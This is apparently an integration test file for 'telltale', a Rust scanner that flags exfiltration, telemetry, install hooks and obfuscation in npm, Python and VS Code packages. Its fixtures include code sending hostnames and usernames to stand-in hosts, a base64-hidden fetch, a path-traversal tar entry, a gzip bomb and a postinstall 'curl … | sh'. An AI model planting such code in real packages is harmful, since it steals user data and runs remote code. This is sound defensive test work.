//! The command line: exit codes, formats, and hostile input through the whole pipeline.

use std::io::Write;
mod common;

use common::{telltale, write};

#[test]
fn exit_codes_follow_fail_on() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "index.js",
        b"const os = require('os'); require('dns').lookup(os.hostname() + '.x.top', () => {});",
    );
    let high = telltale().args(["scan"]).arg(dir.path()).output().unwrap();
    assert_eq!(
        high.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&high.stdout)
    );
    let crit = telltale()
        .args(["scan", "--fail-on", "critical"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(crit.status.code(), Some(0));
    let usage = telltale()
        .args(["scan", "--format", "yaml", "x"])
        .output()
        .unwrap();
    assert_eq!(usage.status.code(), Some(2));
    let missing = telltale()
        .args(["scan", "/nonexistent/telltale/x"])
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(2));
}

#[test]
fn json_findings_have_the_contract_fields() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.js", b"if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') { console.log('hi'); }");
    let (_, doc) = scan_json([dir.path()]);
    assert_eq!(doc["schema_version"], 1);
    let f = &doc["targets"][0]["findings"][0];
    for key in [
        "rule",
        "name",
        "category",
        "severity",
        "file",
        "line",
        "column",
        "offset",
        "message",
        "evidence",
        "countries",
        "endpoints",
    ] {
        assert!(f.get(key).is_some(), "missing {key} in {f}");
    }
    assert_eq!(f["countries"][0], "BY");
    assert_eq!(f["line"], 1);
    let label = &doc["targets"][0]["label"];
    assert_eq!(label["regions"][0]["countries"][0], "BY", "{label}");
    assert_eq!(label["regions"][0]["effects"][0], "shows a message");
}

#[test]
fn label_comes_first_in_text_and_names_what_is_sent() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.js", b"const os = require('os');\nfetch('https://api.mixpanel.com/track', { method: 'POST', body: os.userInfo().username });\n");
    let out = telltale().arg("scan").arg(dir.path()).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let label_at = text.find("privacy label:").expect("label printed");
    let first_finding = text.find("TT102").expect("exfiltration finding");
    assert!(label_at < first_finding, "{text}");
    assert!(
        text.contains("user name (os.userInfo().username), SENT"),
        "{text}"
    );
    assert!(
        text.contains("api.mixpanel.com [telemetry] — Mixpanel"),
        "{text}"
    );
}

#[test]
fn send_before_the_opt_out_check_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "a.js",
        b"const os = require('os');\nfunction track(e) { fetch('https://t.example.com/e', { method: 'POST', body: os.hostname() + e }); }\nfunction main() { track('start'); if (process.env.DO_NOT_TRACK) return; track('run'); }\nmain();\n",
    );
    let (_, doc) = scan_json([dir.path()]);
    let target = &doc["targets"][0];
    let send = &target["label"]["sends"][0];
    assert_eq!(send["sent_before_check"], true, "{send}");
    let opt_out = &target["label"]["opt_outs"][0];
    assert_eq!(opt_out["setting"], "DO_NOT_TRACK");
    assert_eq!(
        opt_out["product"],
        serde_json::Value::Null,
        "a convention of many products: {opt_out}"
    );
    assert!(
        opt_out["sends_before_check"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c.as_str().unwrap_or("").contains("track at byte")),
        "{opt_out}"
    );
    let tt701: Vec<&serde_json::Value> = target["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "TT701")
        .collect();
    assert!(
        tt701.iter().any(|f| f["message"]
            .as_str()
            .unwrap_or("")
            .contains("before the opt-out check runs")),
        "{tt701:?}"
    );
    let text = String::from_utf8(
        telltale()
            .arg("scan")
            .arg(dir.path())
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert!(text.contains("1 sent before the opt-out check"), "{text}");
    assert!(
        text.contains("sent before the check: a.js: track at byte"),
        "{text}"
    );
}

#[test]
fn hostile_inputs_give_errors_not_panics() {
    let dir = tempfile::tempdir().unwrap();
    // Truncated gzip.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&vec![b'a'; 100_000]).unwrap();
    let bytes = gz.finish().unwrap();
    write(dir.path(), "trunc.tgz", &bytes[..bytes.len() / 2]);
    let out = telltale()
        .args(["scan"])
        .arg(dir.path().join("trunc.tgz"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("error"));

    // Path traversal inside a tarball: the entry name is written into the header by hand.
    let mut header = tar::Header::new_gnu();
    let name = b"../../evil.js";
    header.as_old_mut().name[..name.len()].copy_from_slice(name);
    header.set_size(3);
    header.set_mode(0o644);
    header.set_cksum();
    let mut builder = tar::Builder::new(Vec::new());
    builder.append(&header, &b"x=1"[..]).unwrap();
    write(dir.path(), "evil.tar", &builder.into_inner().unwrap());
    let (_, doc) = scan_json([dir.path().join("evil.tar"), dir.path().join("trunc.tgz")]);
    assert!(
        doc["targets"][0]["error"]
            .as_str()
            .unwrap()
            .contains("escapes"),
        "{doc}"
    );
    assert!(!dir.path().parent().unwrap().join("evil.js").exists());

    // A bomb against a low limit.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![0u8; 20 << 20]).unwrap();
    write(dir.path(), "bomb.tgz", &gz.finish().unwrap());
    let out = telltale()
        .args(["scan", "--max-archive-bytes", "1000000"])
        .arg(dir.path().join("bomb.tgz"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn odd_files_are_survived() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "empty.js", b"");
    write(dir.path(), "binary.js", &[0u8, 159, 146, 150, 0, 1, 2]);
    write(
        dir.path(),
        "invalid_utf8.js",
        b"var a = '\xff\xfe'; require('os').hostname();",
    );
    write(dir.path(), "broken.js", b"function ( { [[[ ");
    let deep = format!("var x = {}1{};", "[".repeat(10_000), "]".repeat(10_000));
    write(dir.path(), "deep.js", deep.as_bytes());
    let mut big = b"var s = \"".to_vec();
    big.extend(std::iter::repeat_n(b'a', 50 << 20));
    big.extend(b"\"; fetch('https://x.example/?h=' + require('os').hostname());");
    write(dir.path(), "big.min.js", &big);
    let (out, doc) = scan_json([dir.path()]);
    assert!(
        out.status.code() == Some(0) || out.status.code() == Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let findings = doc["targets"][0]["findings"].as_array().unwrap();
    let big_flow = findings
        .iter()
        .find(|f| f["file"] == "big.min.js" && f["category"] == "exfiltration")
        .expect("flow in the 50 MB file");
    assert!(
        big_flow["snippet"].as_str().unwrap().len() < 200,
        "snippet is a window, not the line"
    );
}

#[test]
fn nesting_past_the_worker_stack_is_analysed_not_fatal() {
    // 300 000 levels overflowed the 256 MiB worker stack (found by fuzzing at 8 MiB); such
    // code now runs on a thread with a stack to match, and what follows it is still found.
    let dir = tempfile::tempdir().unwrap();
    let code = format!(
        "var x = {}1{};\nfetch('https://x.example/?h=' + require('os').hostname());",
        "(".repeat(300_000),
        ")".repeat(300_000)
    );
    write(dir.path(), "deep.js", code.as_bytes());
    let strings = format!(
        "var s = '{}'; require('os').hostname();",
        "[".repeat(3_000_000)
    );
    write(dir.path(), "brackets_in_a_string.js", strings.as_bytes());
    let (out, doc) = scan_json([dir.path()]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let findings = doc["targets"][0]["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["file"] == "deep.js" && f["category"] == "exfiltration"),
        "{findings:?}"
    );
    // Past 2 000 000 levels (counted naively, strings included) the file is reported unparsed.
    let warnings = doc["targets"][0]["warnings"].to_string();
    assert!(
        warnings.contains("brackets_in_a_string.js") && warnings.contains("nest"),
        "{warnings}"
    );
}

#[test]
fn odd_python_files_are_survived() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "empty.py", b"");
    write(dir.path(), "binary.py", &[0u8, 159, 146, 150, 0, 1, 2]);
    write(
        dir.path(),
        "invalid_utf8.py",
        b"x = '\xff\xfe'\nimport socket\nsocket.gethostname()\n",
    );
    write(dir.path(), "broken.py", b"def (:\n  ))))\n");
    write(
        dir.path(),
        "py2.py",
        b"print 'x'\nexcept Exception, e:\n  pass\n",
    );
    write(
        dir.path(),
        "neg.py",
        format!("x = {}1\n", "-".repeat(1_000_000)).as_bytes(),
    );
    write(
        dir.path(),
        "lists.py",
        format!("x = {}{}\n", "[".repeat(50_000), "]".repeat(50_000)).as_bytes(),
    );
    write(
        dir.path(),
        "defs.py",
        (0..2_000)
            .map(|i| format!("{}def f():\n", " ".repeat(i)))
            .chain([format!("{}pass\n", " ".repeat(2_000))])
            .collect::<String>()
            .as_bytes(),
    );
    write(
        dir.path(),
        "concat.py",
        format!("x = {}\n", vec!["'a'"; 200_000].join(" + ")).as_bytes(),
    );
    let mut big = b"import socket, requests\ns = '".to_vec();
    big.extend(std::iter::repeat_n(b'a', 20 << 20));
    big.extend(b"'\nrequests.post('https://x.example', data=socket.gethostname())\n");
    write(dir.path(), "big.py", &big);
    let (out, doc) = scan_json([dir.path()]);
    assert!(
        out.status.code() == Some(0) || out.status.code() == Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let findings = doc["targets"][0]["findings"].as_array().unwrap();
    assert!(findings
        .iter()
        .any(|f| f["file"] == "big.py" && f["category"] == "exfiltration"));
    let warnings = doc["targets"][0]["warnings"].to_string();
    assert!(
        warnings.contains("broken.py") && warnings.contains("nested deeper"),
        "{warnings}"
    );
}

#[test]
fn python_wheels_and_sdists_load() {
    use std::io::Cursor;
    let dir = tempfile::tempdir().unwrap();
    let code = b"import socket, requests\nrequests.post('https://x.example.top', data=socket.gethostname())\n";
    // A wheel is a zip named .whl.
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file("pkg/__init__.py", zip::write::SimpleFileOptions::default())
        .unwrap();
    w.write_all(code).unwrap();
    w.start_file(
        "pkg-1.0.dist-info/entry_points.txt",
        zip::write::SimpleFileOptions::default(),
    )
    .unwrap();
    w.write_all(b"[console_scripts]\npkg-cli = pkg.cli:main\n")
        .unwrap();
    write(
        dir.path(),
        "pkg-1.0-py3-none-any.whl",
        &w.finish().unwrap().into_inner(),
    );
    // An sdist whose setup.py sends at install time.
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    let mut header = tar::Header::new_gnu();
    header.set_size(code.len() as u64);
    header.set_mode(0o644);
    tar.append_data(&mut header, "pkg-1.0/setup.py", &code[..])
        .unwrap();
    write(
        dir.path(),
        "pkg-1.0.tar.gz",
        &tar.into_inner().unwrap().finish().unwrap(),
    );
    let (_, doc) = scan_json([
        dir.path().join("pkg-1.0-py3-none-any.whl"),
        dir.path().join("pkg-1.0.tar.gz"),
    ]);
    let exfil = |t: usize| {
        doc["targets"][t]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["category"] == "exfiltration")
            .cloned()
            .unwrap_or_default()
    };
    assert_eq!(exfil(0)["file"], "pkg/__init__.py", "{doc}");
    assert_eq!(exfil(0)["severity"], "high");
    assert_eq!(exfil(1)["file"], "pkg-1.0/setup.py");
    assert_eq!(
        exfil(1)["severity"],
        "critical",
        "setup.py runs at install time"
    );
    assert_eq!(exfil(1)["install_time"], true);
    // The wheel's console script is in its label: what runs when the user types the command.
    assert_eq!(
        doc["targets"][0]["label"]["activation"][0], "console script pkg-cli runs pkg.cli:main",
        "{doc}"
    );
}

#[test]
fn rules_and_explain() {
    let out = telltale().arg("rules").output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("TT201"));
    let out = telltale().args(["explain", "TT201"]).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("Why it matters"));
    assert_eq!(
        telltale()
            .args(["explain", "TT999"])
            .output()
            .unwrap()
            .status
            .code(),
        Some(2)
    );
}

/// `telltale scan --format json` over the targets: the process output and the parsed report.
fn scan_json<P: AsRef<std::ffi::OsStr>>(
    targets: impl IntoIterator<Item = P>,
) -> (std::process::Output, serde_json::Value) {
    let out = telltale()
        .args(["scan", "--format", "json"])
        .args(targets)
        .output()
        .unwrap();
    let doc = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (out, doc)
}

fn flows_in(dir: &std::path::Path) -> Vec<serde_json::Value> {
    let (_, doc) = scan_json([dir]);
    doc["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["flow"].as_array().is_some_and(|s| !s.is_empty()))
        .cloned()
        .collect()
}

#[test]
fn flows_cross_package_local_modules() {
    // Identity read in one module, sent from another (through an export and a call).
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "package/lib/id.js", b"const os = require('os');\nexports.getId = () => os.hostname();\nmodule.exports.user = os.userInfo().username;\n");
    write(dir.path(), "package/lib/send.js", b"const https = require('https');\nmodule.exports = function send(body) {\n  https.request({ host: 't.example.com', method: 'POST' }).end(body);\n};\n");
    write(dir.path(), "package/index.js", b"const id = require('./lib/id');\nconst send = require('./lib/send');\nfetch('https://t.example.com/?h=' + id.getId());\nsend(JSON.stringify({ u: process.env.USER }));\n");
    let flows = flows_in(dir.path());
    let index = flows
        .iter()
        .find(|f| f["file"] == "package/index.js")
        .unwrap_or_else(|| panic!("{flows:#?}"));
    let first = index["flow"][0]["what"].as_str().unwrap();
    assert!(
        first.contains("os.hostname() at package/lib/id.js:2:"),
        "{first}"
    );
    let send = flows
        .iter()
        .find(|f| f["file"] == "package/lib/send.js")
        .unwrap_or_else(|| panic!("{flows:#?}"));
    let first = send["flow"][0]["what"].as_str().unwrap();
    assert!(
        first.contains("at package/index.js:4:") && first.contains("passed to ./lib/send()"),
        "{first}"
    );
}

#[test]
fn unrelated_exports_do_not_link() {
    // The module exports a hostname, but the importer sends another export.
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "package/id.js", b"const os = require('os');\nexports.host = os.hostname();\nexports.url = 'https://t.example.com/e';\n");
    write(dir.path(), "package/index.js", b"import { url } from './id.js';\nimport * as id from './id.js';\nfetch(url);\nfetch(id.url);\n");
    assert!(flows_in(dir.path()).is_empty());
}

#[test]
fn obfuscation_evidence_names_where_the_encoded_literal_is() {
    let dir = tempfile::tempdir().unwrap();
    // "https://prov.example.net/c" in base64, written on line 2 and decoded on line 3.
    let src =
        "const pad = 0;\nconst k =   'aHR0cHM6Ly9wcm92LmV4YW1wbGUubmV0L2M=';\nfetch(atob(k));\n";
    write(dir.path(), "a.js", src.as_bytes());
    let col = src.lines().nth(1).unwrap().find('\'').unwrap() + 1;
    let provenance = format!("base64 → literal at 2:{col}");
    let (_, doc) = scan_json([dir.path()]);
    let findings = doc["targets"][0]["findings"].as_array().unwrap();
    for rule in ["TT401", "TT303"] {
        let f = findings
            .iter()
            .find(|f| f["rule"] == rule)
            .unwrap_or_else(|| panic!("no {rule} in {findings:#?}"));
        assert_eq!(f["line"], 3, "{f}");
        assert!(
            f["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e == &provenance),
            "{rule}: {f}"
        );
    }
    let text = String::from_utf8(
        telltale()
            .arg("scan")
            .arg(dir.path())
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert!(
        text.contains(&format!("= evidence: {provenance}")),
        "{text}"
    );
}

#[test]
fn vsix_extension_activation_is_in_the_label() {
    let dir = tempfile::tempdir().unwrap();
    let vsix = dir.path().join("ext.vsix");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&vsix).unwrap());
    let opts = zip::write::SimpleFileOptions::default();
    zip.start_file("extension/package.json", opts).unwrap();
    zip.write_all(br#"{"name":"x","engines":{"vscode":"^1.80.0"},"main":"./out/extension.js","activationEvents":["onStartupFinished"]}"#).unwrap();
    zip.start_file("extension/out/extension.js", opts).unwrap();
    zip.write_all(
        b"const os = require('os'); fetch('https://t.example.com/?u=' + os.userInfo().username);",
    )
    .unwrap();
    zip.finish().unwrap();
    let (_, doc) = scan_json([&vsix]);
    let activation = doc["targets"][0]["label"]["activation"][0]
        .as_str()
        .unwrap_or_else(|| panic!("{doc}"));
    assert!(
        activation.contains("./out/extension.js runs at every VS Code start (onStartupFinished)"),
        "{activation}"
    );
    assert!(doc["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["file"] == "extension/out/extension.js" && f["category"] == "exfiltration"));
}

#[test]
fn node_modules_gives_one_report_per_installed_package() {
    let dir = tempfile::tempdir().unwrap();
    let nm = dir.path().join("node_modules");
    let pkg = |rel: &str, name: &str, js: &str| {
        write(
            &nm,
            &format!("{rel}/package.json"),
            format!(r#"{{"name":"{name}","version":"1.0.0"}}"#).as_bytes(),
        );
        write(&nm, &format!("{rel}/index.js"), js.as_bytes());
    };
    pkg("a", "a", "module.exports = 1;");
    pkg(
        "@s/b",
        "@s/b",
        "require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});",
    );
    pkg(
        "a/node_modules/c",
        "c",
        "fetch('https://t.example.com/?u=' + require('os').userInfo().username);",
    );
    let (_, doc) = scan_json([&nm]);
    let targets = doc["targets"].as_array().unwrap();
    assert_eq!(targets.len(), 3, "{doc}");
    let findings = |prefix: &str| {
        targets
            .iter()
            .find(|t| t["target"].as_str().unwrap().starts_with(prefix))
            .map(|t| t["findings"].as_array().unwrap().len())
            .unwrap_or_else(|| panic!("{prefix} in {doc}"))
    };
    assert_eq!(
        findings("a@1.0.0"),
        0,
        "the nested package is its own report"
    );
    assert!(findings("@s/b@1.0.0") > 0);
    assert!(findings("c@1.0.0") > 0);
}

/// A Node single executable application: the flipped fuse and a `NODE_SEA_BLOB` with the
/// given flags and fields (u64 length, bytes).
fn sea_executable(flags: u32, fields: &[&[u8]]) -> Vec<u8> {
    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
    exe.extend_from_slice(&[0; 56]);
    exe.extend_from_slice(b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1\0");
    exe.extend_from_slice(&0x0143_da20u32.to_le_bytes());
    exe.extend_from_slice(&flags.to_le_bytes());
    for field in fields {
        exe.extend_from_slice(&(field.len() as u64).to_le_bytes());
        exe.extend_from_slice(field);
    }
    exe.extend_from_slice(&[0; 32]);
    exe
}

/// A hand-built Node single executable application: the flipped fuse and a `NODE_SEA_BLOB`
/// (Node 21+ layout: magic, flags, main script path, code). Its main script is analysed as
/// `app › main.js`, with locations inside that script.
#[test]
fn node_sea_executable_main_script_is_analysed() {
    let code: &[u8] = b"const os = require('os');\nrequire('https').get('https://collect.example-metrics.top/u?h=' + os.hostname());\n";
    let exe = sea_executable(1, &[b"/build/app/main.js", code]);
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "app", &exe);
    let (_, doc) = scan_json([dir.path().join("app")]);
    let findings = doc["targets"][0]["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let exfil = findings
        .iter()
        .find(|f| f["category"] == "exfiltration")
        .unwrap_or_else(|| panic!("no exfiltration finding: {doc}"));
    assert!(
        exfil["file"].as_str().unwrap().ends_with("app › main.js"),
        "{exfil}"
    );
    assert_eq!(exfil["line"], 2, "{exfil}");
    assert!(
        exfil["endpoints"]
            .to_string()
            .contains("collect.example-metrics.top"),
        "{exfil}"
    );
}

/// A SEA built as a V8 snapshot holds no source: coverage says so (incomplete, failing the
/// default policy), and the binary's strings are still searched for endpoints.
#[test]
fn node_sea_snapshot_is_reported_as_not_analysed() {
    let exe = sea_executable(
        2,
        &[
            b"main.js",
            b"\x00\x01snapshot https://snap.example-metrics.top/v1/t \x00",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "app", &exe);
    let (out, doc) = scan_json([dir.path().join("app")]);
    let coverage = &doc["targets"][0]["coverage"];
    assert_eq!(coverage["complete"], false, "{doc}");
    assert!(
        coverage["unanalysed"][0]["why"]
            .as_str()
            .unwrap()
            .contains("snapshot"),
        "{coverage}"
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "incomplete coverage fails the default policy"
    );
    assert!(
        doc.to_string().contains("snap.example-metrics.top"),
        "{doc}"
    );
}

#[test]
fn prepare_is_not_install_time_but_postinstall_is() {
    // npm runs `prepare` only for git and folder installs, never from a registry tarball.
    let dir = tempfile::tempdir().unwrap();
    let send = b"require('https').get('https://t.example.top/?h=' + require('os').hostname());";
    write(dir.path(), "package/guard.js", send);
    write(dir.path(), "package/setup.js", send);
    write(
        dir.path(),
        "package/package.json",
        br#"{"name":"p","version":"1.0.0","scripts":{"prepare":"node guard.js"}}"#,
    );
    let (_, doc) = scan_json([dir.path().join("package")]);
    let findings = doc["targets"][0]["findings"].as_array().unwrap().clone();
    let install = findings
        .iter()
        .find(|f| f["rule"] == "TT501")
        .expect("prepare listed");
    assert_eq!(install["severity"], "info", "{install}");
    let exfil = findings
        .iter()
        .find(|f| f["rule"] == "TT102")
        .expect("the send");
    assert_eq!(exfil["install_time"], false, "{exfil}");
    let scripts = doc["targets"][0]["label"]["install_scripts"].to_string();
    assert!(
        scripts.contains("git and folder installs only"),
        "{scripts}"
    );
    // The same file run from `postinstall` is install-time code.
    write(
        dir.path(),
        "package/package.json",
        br#"{"name":"p","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
    );
    let (_, doc) = scan_json([dir.path().join("package")]);
    let findings = doc["targets"][0]["findings"].as_array().unwrap().clone();
    let exfil = findings
        .iter()
        .find(|f| f["rule"] == "TT102" && f["file"] == "setup.js")
        .unwrap_or_else(|| panic!("{findings:#?}"));
    assert_eq!(exfil["install_time"], true, "{exfil}");
}

/// A product's own event collector (`/v1/events/batch` on its API host) is telemetry when the
/// code sends to it, in JS and Python alike, and the summary line says to whom, what identity
/// leaves and which switch turns it off; the same path only named in a help text is not.
#[test]
fn event_collection_by_path_is_telemetry_where_the_code_sends() {
    let js = tempfile::tempdir().unwrap();
    write(
        js.path(),
        "a.js",
        b"const os = require('os');
if (!process.env.ACME_TELEMETRY_DISABLED) {
  fetch('https://in.acme-tools.dev/v1/events/batch', { method: 'POST', body: JSON.stringify({ host: os.hostname() }) });
}
console.log('Events go to https://stats.acme-tools.dev/v1/events/batch unless you opt out.');
",
    );
    let py = tempfile::tempdir().unwrap();
    write(
        py.path(),
        "acme/telemetry.py",
        b"import argparse, os, socket
import requests

parser = argparse.ArgumentParser()
parser.add_argument('--verbose', help='events are sent to https://stats.acme-tools.dev/track')
if not os.environ.get('ACME_TELEMETRY_DISABLED'):
    requests.post('https://in.acme-tools.dev/v1/events/batch', json={'host': socket.gethostname()})
",
    );
    for dir in [js.path(), py.path()] {
        let (_, doc) = scan_json([dir]);
        let t = &doc["targets"][0];
        let telemetry: Vec<&serde_json::Value> = t["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "TT301")
            .collect();
        assert_eq!(telemetry.len(), 1, "{t:#}");
        assert_eq!(telemetry[0]["endpoints"][0], "in.acme-tools.dev", "{t:#}");
        assert!(
            telemetry[0]["message"]
                .as_str()
                .unwrap()
                .contains("event collection"),
            "{t:#}"
        );
        let summary = t["summary"].as_str().unwrap();
        assert!(summary.contains("telemetry to"), "{summary}");
        assert!(summary.contains("ACME_TELEMETRY_DISABLED"), "{summary}");
        assert!(summary.contains("host name"), "{summary}");
    }
}

/// A check in one Python module gates the send inside a function another module defines when
/// every call of that function is under the check (open-interpreter: `if
/// self.anonymous_telemetry: send_telemetry(…)` in core.py, the PostHog request in
/// utils/telemetry.py); a second, unchecked call leaves the send ungated.
#[test]
fn an_opt_out_in_one_module_gates_the_send_another_module_makes() {
    let telemetry = b"import socket, requests

def send_telemetry(event):
    requests.post('https://app.posthog.com/capture', json={'event': event, 'host': socket.gethostname()})
";
    let core = b"import os
from .utils.telemetry import send_telemetry

class Tool:
    def __init__(self):
        self.disable_telemetry = os.getenv('DISABLE_TELEMETRY', 'false').lower() == 'true'

    def run(self):
        if not self.disable_telemetry:
            send_telemetry('started')
        if not self.disable_telemetry:
            send_telemetry('ended')
";
    let gated_sends = |core: &[u8]| {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "acme/utils/telemetry.py", telemetry);
        write(dir.path(), "acme/utils/__init__.py", b"");
        write(dir.path(), "acme/__init__.py", b"");
        write(dir.path(), "acme/core.py", core);
        let (_, doc) = scan_json([dir.path()]);
        let t = doc["targets"][0].clone();
        let sends = t["label"]["sends"].as_array().unwrap().clone();
        assert_eq!(sends.len(), 1, "{t:#}");
        (sends[0]["gated_by"].as_array().unwrap().len(), t)
    };
    let (gated, t) = gated_sends(core);
    assert_eq!(gated, 1, "{t:#}");
    let summary = t["summary"].as_str().unwrap();
    assert!(summary.contains("off with DISABLE_TELEMETRY"), "{summary}");
    assert!(!summary.contains("not traced"), "{summary}");
    let once_more = [
        &core[..],
        b"\ndef report():\n    send_telemetry('report')\n",
    ]
    .concat();
    let (gated, t) = gated_sends(&once_more);
    assert_eq!(gated, 0, "{t:#}");
}

/// npm runs the install scripts of the package it installs (and of its dependencies and
/// workspaces), never those of a package.json elsewhere in it: resolve 1.22's test fixture
/// `test/resolver/multirepo/package.json` (`postinstall: lerna bootstrap`) is not resolve's
/// install script. The same hook in the root manifest is, and so is a workspace's.
#[test]
fn only_installed_manifests_have_install_scripts() {
    let hooks = |root: &[u8]| {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "package.json", root);
        write(
            dir.path(),
            "test/fixture/package.json",
            br#"{"name": "fixture", "scripts": {"postinstall": "curl -s https://x.example.top/i | sh"}}"#,
        );
        let (_, doc) = scan_json([dir.path()]);
        let t = &doc["targets"][0];
        (
            t["label"]["install_scripts"].as_array().unwrap().len(),
            t["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|f| f["install_time"] == true || f["rule"] == "TT501")
                .count(),
        )
    };
    assert_eq!(hooks(br#"{"name": "lib", "version": "1.0.0"}"#), (0, 0));
    let (scripts, findings) =
        hooks(br#"{"name": "lib", "scripts": {"postinstall": "node setup.js"}}"#);
    assert_eq!(scripts, 1);
    assert!(findings >= 1);
    let (scripts, _) = hooks(br#"{"name": "mono", "workspaces": ["test/*"]}"#);
    assert_eq!(scripts, 1, "a workspace's hook runs in the checkout");
    // A folder of packages side by side: each one's manifest is its own root.
    let dir = tempfile::tempdir().unwrap();
    for n in ["a", "b"] {
        write(
            dir.path(),
            &format!("{n}/package.json"),
            format!(r#"{{"name": "{n}", "scripts": {{"postinstall": "node {n}.js"}}}}"#).as_bytes(),
        );
    }
    let (_, doc) = scan_json([dir.path()]);
    let scripts = doc["targets"][0]["label"]["install_scripts"]
        .as_array()
        .unwrap()
        .len();
    assert_eq!(scripts, 2, "{doc:#}");
}

/// The summary line and the label of a package that runs an install script, picks a mirror by
/// the user's time zone and reports machine traits and the time zone: each part in plain
/// words, and the label lists the time zone and the device fingerprint as sent, with where.
#[test]
fn the_summary_says_region_install_and_fingerprint_in_plain_words() {
    let js = tempfile::tempdir().unwrap();
    write(
        js.path(),
        "package.json",
        br#"{"name": "acme-cli", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}"#,
    );
    write(
        js.path(),
        "setup.js",
        b"const os = require('os');
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (tz === 'Asia/Shanghai') {
  process.env.npm_config_registry = 'https://registry.npmmirror.com';
}
fetch('https://stats.acme-tools.dev/v1/install', { method: 'POST', body: JSON.stringify({ host: os.hostname(), cpu: os.cpus()[0].model, tz }) });
",
    );
    let py = tempfile::tempdir().unwrap();
    write(
        py.path(),
        "acme/report.py",
        b"import platform, socket, time
import requests

requests.post('https://stats.acme-tools.dev/v1/install', json={'host': socket.gethostname(), 'os': platform.platform(), 'tz': time.tzname[0]})
",
    );
    for (dir, js) in [(js.path(), true), (py.path(), false)] {
        let (_, doc) = scan_json([dir]);
        let t = &doc["targets"][0];
        let summary = t["summary"].as_str().unwrap();
        assert!(
            summary.contains("together a device fingerprint"),
            "{summary}"
        );
        let collects = t["label"]["collects"].as_array().unwrap();
        let item = |kind: &str| {
            collects
                .iter()
                .find(|c| c["kind"] == kind)
                .unwrap_or_else(|| panic!("{kind}: {collects:#?}"))
        };
        for kind in ["device-fingerprint", "time-zone", "hostname"] {
            assert_eq!(item(kind)["sent"], true, "{kind}: {collects:#?}");
            assert_eq!(item(kind)["to"][0], "stats.acme-tools.dev", "{collects:#?}");
        }
        if js {
            assert!(summary.contains("behaves differently in"), "{summary}");
            assert!(summary.contains("runs postinstall at install"), "{summary}");
            assert_eq!(item("time-zone")["when"][0], "install", "{collects:#?}");
        }
    }
}

/// A telemetry or geolocation service only mentioned in a message, a help text or an
/// argument's description is named, not contacted: not a destination, not telemetry; the
/// same address requested is.
#[test]
fn services_mentioned_in_help_texts_are_not_destinations() {
    let js = tempfile::tempdir().unwrap();
    write(
        js.path(),
        "a.js",
        b"const program = require('commander');
program.option('--geo', 'show where you are (looked up at https://ipinfo.io/json)');
console.log('Usage statistics go to https://api.mixpanel.com/track unless DO_NOT_TRACK is set.');
",
    );
    let py = tempfile::tempdir().unwrap();
    write(
        py.path(),
        "tool/cli.py",
        b"import argparse
p = argparse.ArgumentParser(epilog='Your location is looked up at https://ipinfo.io/json; events go to https://api.mixpanel.com/track')
",
    );
    for dir in [js.path(), py.path()] {
        let (_, doc) = scan_json([dir]);
        let t = &doc["targets"][0];
        let rules: Vec<&str> = t["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|f| f["rule"].as_str())
            .collect();
        assert!(!rules.contains(&"TT301"), "{t:#}");
